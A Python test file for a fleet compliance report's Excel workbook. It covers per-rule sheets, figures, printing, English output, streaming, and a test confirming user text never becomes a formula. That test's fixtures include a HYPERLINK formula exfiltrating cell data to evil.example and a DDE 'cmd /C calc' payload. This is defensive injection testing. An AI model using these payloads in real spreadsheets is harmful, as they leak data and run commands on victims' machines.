"""The compliance report workbook: sheets and figures as the engine computes them, print setup, and user
text that can never become a formula."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from fleet.base.periods import Period
from fleet.base.vocab import CATEGORIES
from fleet.read.reports import Headline, agency_headlines, compliance_workbook, headline
from rules.packs import get_pack
from tests import factories

OCTOBER = Period.month(2026, 10)
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'


@pytest.fixture
def puyang():
    return get_pack("puyang-2024")


@pytest.fixture
def city(session):
    """Police: 5 official/enforcement cars in October, 2 of them NEV; the bus company: 2 buses, both NEV."""
    police = factories.agency(session, "濮阳市公安局", kind="党政机关", sector="公安")
    buses = factories.agency(session, "濮阳市公共交通有限公司", kind="国有企业", sector="公交")
    october = dt.date(2026, 10, 8)
    for power in ("纯电动", "插电式混合动力", "汽油", "汽油"):
        factories.acquisition(session, police, category="执法执勤用车", power=power, acquired_on=october, reported_on=october)
    factories.acquisition(
        session, police, category="公务用车", power="汽油", acquired_on=october, reported_on=dt.date(2026, 11, 20),
        brand_model=HYPERLINK,
    )
    for _ in range(2):
        factories.acquisition(session, buses, category="公交车", power="纯电动", acquired_on=october, reported_on=october)
    session.commit()
    return {"police": police, "buses": buses}


# Sheets are named by the rules' titles (Chinese), within Excel's 31 characters, written out here.
SHEETS = {
    "bus": "新增公交车全部使用新能源汽车",
    "sanitation": "新增市政环卫车全部使用新能源汽车",
    "public-service": "新增或更新的城市物流配送、邮政、出租、网约车、渣土车、水泥罐…",  # 31 with the ellipsis
    "official-car": "党政机关新增、更新公务用车新能源汽车比例不低于50%",
    "enforcement-car": "执法执勤用车新能源汽车比例不低于60%",
    "heavy-truck-emission": "新购燃油重型货车全部达到国六排放标准",
}


def report(session, pack, period, **options) -> bytes:
    return compliance_workbook(session, pack, period, deadline_days=30, **options)


def open_workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def rows_of(sheet, first_row: int = 4) -> list[tuple]:
    return [row for row in sheet.iter_rows(min_row=first_row, values_only=True)]


def test_city_report_has_an_overview_a_sheet_per_rule_and_the_vehicles(session, puyang, city):
    workbook = open_workbook(report(session, puyang, OCTOBER))
    # Every rule of the pack is in force in October 2026, each with its sheet, in the pack's order.
    assert workbook.sheetnames == [
        "总览", *SHEETS.values(), "车辆明细",
    ]


def test_rule_sheet_figures_match_the_engine_with_a_city_total_row(session, puyang, city):
    workbook = open_workbook(report(session, puyang, OCTOBER))
    rows = rows_of(workbook[SHEETS["enforcement-car"]])
    # Only the police are a party and government body; 2 NEV of 4 enforcement cars against 60%:
    # ceil(0.6 × 4) − 2 = 1 more needed. The city's total row is the same, last.
    expected = (4, 2, 0, 0, pytest.approx(0.5), pytest.approx(0.6), "未达标", 1)
    assert [(row[0], *row[1:9]) for row in rows] == [("濮阳市公安局", *expected), ("全市合计", *expected)]


def test_vehicle_sheet_lists_every_in_scope_acquisition_with_its_mark(session, puyang, city):
    workbook = open_workbook(report(session, puyang, OCTOBER))
    rows = rows_of(workbook["车辆明细"])
    header = [c.value for c in workbook["车辆明细"][3]]
    column = {name: header.index(name) for name in header}
    enforcement = [r for r in rows if r[column["规则"]] == SHEETS["enforcement-car"]]
    assert sorted(r[column["标记"]] for r in enforcement) == ["计入新能源", "计入新能源", "非新能源", "非新能源"]
    late = [r for r in rows if r[column["逾期报送"]] == "是"]
    # The official car was reported 43 days after its purchase (deadline 30); it is in two rules.
    assert {r[column["报送用时（天）"]] for r in late} == {43}
    assert {r[column["规则"]] for r in late} == {SHEETS["official-car"]}


def test_agency_report_has_only_that_agency(session, puyang, city):
    data = report(session, puyang, OCTOBER, agency_id=city["buses"].id)
    workbook = open_workbook(data)
    assert workbook.sheetnames == ["总览", SHEETS["bus"], "车辆明细"]
    text = " ".join(str(v) for ws in workbook for row in ws.iter_rows(values_only=True) for v in row if v)
    assert "濮阳市公共交通有限公司" in text
    assert "濮阳市公安局" not in text and "全市合计" not in text


def test_every_sheet_is_set_up_for_printing(session, puyang, city):
    workbook = open_workbook(report(session, puyang, OCTOBER))
    for sheet in workbook:
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        # fitToWidth is left out when it is 1, the file format's default.
        assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == "$1:$3"
        assert sheet.freeze_panes == "B4"
        assert sheet.column_dimensions["A"].width > 8
    overview = workbook["总览"]
    share_header = [c.value for c in overview[3]].index("占比") + 1
    assert overview.cell(row=4, column=share_header).number_format == "0.0%"


def test_user_text_can_never_become_a_formula(session, puyang, city):
    police = city["police"]
    factories.acquisition(
        session, police, category="执法执勤用车", power="柴油", acquired_on=dt.date(2026, 10, 9),
        reported_on=dt.date(2026, 10, 9), brand_model="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    diesel_bus = factories.acquisition(
        session, city["buses"], category="公交车", power="柴油", acquired_on=dt.date(2026, 10, 9), reported_on=dt.date(2026, 10, 9)
    )
    factories.exemption_request(session, diesel_bus, reason_category="+1+1", reason="-2+3 山区线路需要柴油车")
    formula_agency = factories.agency(session, "=1+1 单位", kind="党政机关", sector="公安")
    factories.acquisition(
        session, formula_agency, category="执法执勤用车", power="汽油", acquired_on=dt.date(2026, 10, 10), reported_on=dt.date(2026, 10, 10),
        brand_model="\tTAB",
    )
    session.commit()
    data = report(session, puyang, OCTOBER)

    # No formula anywhere in the package: a formula is an <f> element in a worksheet.
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name
    workbook = open_workbook(data)
    dangerous = [
        cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]
    values = {cell.value for cell in dangerous}
    assert HYPERLINK in values and "=1+1 单位" in values and "\tTAB" in values
    assert any(v.startswith("+1+1：-2+3") for v in values)
    for cell in dangerous:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_english_report_writes_vocabulary_in_english(session, puyang, city):
    workbook = open_workbook(report(session, puyang, OCTOBER, locale="en"))
    vehicles = workbook.worksheets[-1]
    values = {v for row in vehicles.iter_rows(min_row=4, values_only=True) for v in row}
    assert CATEGORIES.english("公交车") in values
    assert "公交车" not in values
    # Sheet titles put the period in English brackets, not Chinese ones.
    titles = [sheet["A1"].value for sheet in workbook.worksheets]
    assert all("（" not in title and "）" not in title for title in titles), titles
    assert any(title.endswith(")") for title in titles), titles


def test_vehicle_detail_beyond_the_row_limit_goes_on_to_further_sheets(session, puyang, city):
    # 11 vehicle rows (the official car is under two rules) on sheets of 3 header rows + 4.
    data = report(session, puyang, OCTOBER, rows_per_sheet=7)
    workbook = open_workbook(data)
    detail = [name for name in workbook.sheetnames if name.startswith("车辆明细")]
    assert detail == ["车辆明细", "车辆明细（续 2）", "车辆明细（续 3）"]
    assert all(workbook[name].max_row <= 7 for name in detail)
    rows = [row for name in detail for row in rows_of(workbook[name])]
    assert len(rows) == 11
    # Every in-scope vehicle once under each rule that covers it.
    pairs = [(row[0], row[2]) for row in rows]
    assert len(set(pairs)) == len(pairs)
    assert sum(1 for title, _vin in pairs if title == SHEETS["enforcement-car"]) == 4
    assert sum(1 for title, _vin in pairs if title == SHEETS["bus"]) == 2


def test_county_report_has_only_the_county_and_the_overview_says_what_the_dashboard_says(session, puyang, city):
    hualong = factories.agency(session, "华龙区城市管理局", kind="党政机关", sector="城管", county="华龙区")
    for power in ("纯电动", "汽油"):
        factories.acquisition(session, hualong, category="执法执勤用车", power=power, acquired_on=dt.date(2026, 10, 3), reported_on=dt.date(2026, 10, 3))
    session.commit()
    workbook = open_workbook(report(session, puyang, OCTOBER, county="华龙区"))
    text = " ".join(str(v) for ws in workbook for row in ws.iter_rows(values_only=True) for v in row if v)
    assert "华龙区城市管理局" in text and "濮阳市公安局" not in text and "全市合计" not in text
    rows = rows_of(workbook[SHEETS["enforcement-car"]])
    assert rows[-1][0] == "华龙区合计" and rows[-1][1:3] == (2, 1)

    city_book = open_workbook(report(session, puyang, OCTOBER))
    overview = city_book["总览"]
    header = [c.value for c in overview[3]]
    assert header[:3] == ["规则", "性质", "计入"] and header[-1] == "达标单位"
    by_rule = {row[0]: row for row in rows_of(overview) if row[0]}
    enforcement = by_rule[SHEETS["enforcement-car"]]
    # Police 2 of 4 (fails 60%), 城市管理局 1 of 2 (fails): none of the two agencies with data passes.
    assert enforcement[2] == "新能源汽车" and enforcement[-1] == "0 / 2"
    labels = {row[0]: row[1] for row in overview.iter_rows(min_row=4, values_only=True) if row[0]}
    # Of the 9 vehicles bought in October 5 are NEVs: police 2 of 5, buses 2 of 2, 城市管理局 1 of 2.
    [share] = [value for label, value in labels.items() if label.startswith("新购车辆中新能源汽车占比")]
    assert share == pytest.approx(5 / 9)
    [late] = [value for label, value in labels.items() if label.startswith("逾期报送的车辆")]
    assert late == 0  # the official car was reported in November, outside October


def test_headlines_of_every_agency_at_once_are_each_agencys_headline(session, city):
    late_bus = factories.acquisition(
        session, city["buses"], category="公交车", power="柴油", acquired_on=dt.date(2026, 8, 20), reported_on=dt.date(2026, 10, 15)
    )
    factories.exemption_request(session, late_bus)
    session.commit()
    pending = {city["buses"].id: 1}
    every = agency_headlines(session, OCTOBER, deadline_days=30, pending=pending)
    for agency in city.values():
        assert every[agency.id] == headline(session, OCTOBER, deadline_days=30, agency_id=agency.id, county=None)
    # Acquired in August, reported late in October: late in October's figures, not acquired in them.
    assert every[city["buses"].id] == Headline(acquired=2, nev=2, late=1, deadline_days=30, pending=1)


def test_a_large_report_returned_as_bytes_is_streamed_and_the_same(session, puyang, city, monkeypatch):
    """Beyond STREAMED_ROWS vehicle rows a report given back as bytes (the city digest's attachment)
    is written in XlsxWriter's constant-memory mode, with the same sheets and cells."""
    import xlsxwriter

    from fleet.read import reports

    held = report(session, puyang, OCTOBER)
    modes = []
    original = xlsxwriter.Workbook.__init__

    def recording(self, filename=None, options=None):
        modes.append(bool((options or {}).get("constant_memory")))
        original(self, filename, options)

    monkeypatch.setattr(xlsxwriter.Workbook, "__init__", recording)
    monkeypatch.setattr(reports, "STREAMED_ROWS", 10)
    streamed = report(session, puyang, OCTOBER)
    assert modes == [True]
    before, after = open_workbook(held), open_workbook(streamed)
    assert before.sheetnames == after.sheetnames
    for name in before.sheetnames:
        assert rows_of(before[name]) == rows_of(after[name]), name
        # Streamed rows are written as XML by the report itself: the same formats, colours and quote prefixes.
        assert styles_of(before[name]) == styles_of(after[name]), name
    assert any(quoted for sheet in after for *_, quoted in styles_of(sheet))


def styles_of(sheet) -> list[tuple]:
    return [
        (cell.coordinate, cell.number_format, cell.fill.fgColor.rgb, cell.font.b, cell.border.left.style, cell.quotePrefix)
        for row in sheet.iter_rows(min_row=4)
        for cell in row
    ]
